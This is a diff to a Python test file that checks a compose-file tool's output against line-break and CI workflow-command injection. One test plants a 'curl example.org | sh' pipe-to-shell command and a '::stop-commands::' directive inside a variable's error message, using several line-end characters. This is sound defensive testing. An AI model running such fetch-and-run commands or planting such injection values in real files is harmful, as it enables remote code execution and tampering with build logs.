@@ -169,7 +169,8 @@ def test_any_text_in_any_field_leaves_every_line_one_line(kind: str, text: str, 
         return lambda said: place.format(text=into, said=said)
 
     assert_text(visible(ONE_LINERS[kind](put(text))))
-    # What to do about a finding has lines of its own kind where it begins with a blank.
+    # What to do about a finding has lines of its own kind, those that begin with a blank.
+    text = re.sub(r"\n[ \n]*(?= |$)", "", text)
     shown = visible(ONE_LINERS[kind](put(f"x{text}")))
     plain = ONE_LINERS[kind](put("x" + "n" * len(visible_in_line(text))))
     assert shown.count("\n") == plain.count("\n")
@@ -373,13 +374,15 @@ def test_no_compose_file_says_more_than_text(world: World, capsys: Captured, com
         assert code in {0, 2, 3}, err
 
 
-def test_the_message_of_a_required_variable_is_no_command(world: World, capsys: Captured) -> None:
+@pytest.mark.parametrize("line_end", [r"\n", r"\r", r"\u2028", r"\x0b"])
+def test_the_message_of_a_required_variable_is_no_command(world: World, capsys: Captured, line_end: str) -> None:
     (world.directory / "compose.yaml").write_text(
-        'services: {web: {image: "${A:?no\\n::stop-commands::x\\n  curl example.org | sh}"}}'
+        f'services: {{web: {{image: "${{A:?no{line_end}::stop-commands::x{line_end}  curl example.org | sh}}"}}}}'
     )
     code, _, err = ended(world, capsys, "forecast")
     assert code == 2
-    assert err.splitlines()[1:4] == ["no", r"    | \::stop-commands::x", "    |   curl example.org | sh"]
+    assert "::stop-commands::x" in err
+    assert not [line for line in err.splitlines() if line.lstrip().startswith(("::", "curl"))]
 
 
 @pytest.mark.parametrize("said", [each for each in HOSTILE if "\udc80" not in each])
